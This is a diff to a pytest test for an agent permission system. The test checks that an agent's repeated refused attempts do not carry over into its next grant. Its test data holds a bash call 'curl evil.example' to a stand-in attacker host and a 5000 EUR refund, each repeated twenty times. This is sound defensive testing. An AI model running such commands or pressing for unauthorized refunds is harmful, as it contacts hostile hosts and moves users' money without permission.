@@ -87,7 +87,7 @@ def under(app: remit.App, found: Suggestion, **parameters: Any) -> remit.Session
 @pytest.mark.requirement("suggest:poison")
 def test_what_was_refused_teaches_nothing(app: remit.App) -> None:
     """However often an agent tries a thing, it is not in the next grant."""
-    calls = [("crm.read_ticket", {"id": 88})]
+    calls: list[tuple[str, dict[str, Any]]] = [("crm.read_ticket", {"id": 88})]
     calls += [("bash", {"command": "curl evil.example"}), ("payments.refund", {"amount": 5000, "currency": "EUR"})] * 20
     grant = app.issue(OPEN, credential=DORA)
     worked(app, grant, *calls)
